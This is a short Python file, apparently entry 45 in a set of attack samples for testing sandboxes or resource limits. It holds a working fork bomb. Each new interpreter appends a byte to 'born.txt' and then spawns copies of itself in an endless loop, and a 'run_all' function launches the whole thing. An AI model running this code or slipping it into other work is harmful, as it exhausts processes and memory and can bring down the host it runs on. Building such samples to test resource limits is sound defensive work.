"""A fork bomb of new interpreters (attack 45); each process adds a byte to a file."""
import subprocess
import sys

BOMB = """
import subprocess, sys
with open("born.txt", "ab") as file:
    file.write(b".")
while True:
    subprocess.Popen([sys.executable, "-c", sys.argv[1], sys.argv[1]])
"""


def run_all(task, count=10):
    subprocess.Popen([sys.executable, "-c", BOMB, BOMB]).wait()
